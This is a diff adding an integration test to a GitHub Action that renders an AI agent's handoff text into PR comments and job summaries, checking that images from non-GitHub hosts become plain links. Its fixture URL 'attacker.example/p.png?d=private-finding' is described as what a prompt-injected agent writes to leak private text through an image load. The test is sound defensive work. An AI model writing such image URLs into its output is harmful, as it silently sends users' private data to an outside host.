@@ -13,7 +13,14 @@ import {
 import { ensureBuilt } from '../support/build.js';
 import { type GitHubApiServer, startGitHubApiServer } from '../support/github-api-server.js';
 import { startHttpProxy } from '../support/http-proxy.js';
-import { liveClosingKeywords, liveMentions, liveReferences, renderGfm } from '../support/markdown-oracle.js';
+import {
+  images,
+  liveClosingKeywords,
+  liveMentions,
+  liveReferences,
+  renderGfm,
+  urls,
+} from '../support/markdown-oracle.js';
 import { quietToolkitLog } from '../support/quiet-toolkit-log.js';
 import { type ResultsServer, startResultsServer } from '../support/results-server.js';
 
@@ -185,6 +192,51 @@ describe('report action (bundled, as the runner runs it)', () => {
     expect(api.requests.filter((r) => r.route === 'POST comments')).toHaveLength(1);
     expect(api.requests.filter((r) => r.route === 'PATCH comment')).toHaveLength(1);
     expect(second.stdout).toContain(`report: updated comment ${comments[0]!.html_url}\n`);
+  });
+
+  describe('images in handoff text', () => {
+    const GITHUB = 'https://user-images.githubusercontent.com/1/chart.png';
+    // GitHub Enterprise Cloud with data residency: its own server URL, and artifacts as on github.com (the
+    // artifact client refuses a GitHub Enterprise Server's).
+    const SERVER = 'https://octocorp.ghe.com/storage/user/1/chart.png';
+    // What a prompt-injected agent writes to send private text out when anyone views the report.
+    const ELSEWHERE = 'https://attacker.example/p.png?d=private-finding';
+
+    it.each([
+      ['github.com', 'https://github.com', [GITHUB]],
+      ['another GitHub server', 'https://octocorp.ghe.com', [GITHUB, SERVER]],
+    ])(
+      'loads no image of another host from the comment or a job summary (on %s)',
+      async (_, serverUrl, shown) => {
+        const server = { GITHUB_SERVER_URL: serverUrl };
+        const stage = await (await newJob('investigate')).uses(
+          'stage',
+          {
+            prompt: 'Investigate.',
+            run: writesHandoff({
+              version: 1,
+              summary: `Chart: ![chart](${ELSEWHERE}) ![ok](${GITHUB}) ![ghe](${SERVER}) ![ref][r]\n\n[r]: ${ELSEWHERE}`,
+              data: { chart: `![chart](${ELSEWHERE})` },
+            }),
+          },
+          server,
+        );
+        expect(stage.exitCode, `${stage.stdout}\n${stage.stderr}`).toBe(0);
+        const report = await (await newJob('report')).uses('report', {}, { ...apiEnv(), ...server });
+        expect(report.exitCode, `${report.stdout}\n${report.stderr}`).toBe(0);
+        const comment = api.comments(7, REPO)[0]!.body;
+        for (const [where, markdown] of [
+          ['stage summary', stage.summary],
+          ['report summary', report.summary],
+          ['comment', comment],
+        ] as const) {
+          expect(new Set(images(markdown)), where).toEqual(new Set(shown));
+          // The reader may still follow it: a link that says it is an image.
+          expect(markdown, where).toContain(`[image: chart](${ELSEWHERE})`);
+          expect(urls(markdown), where).toContain(ELSEWHERE);
+        }
+      },
+    );
   });
 
   it("never edits a user's comment carrying the marker", async () => {
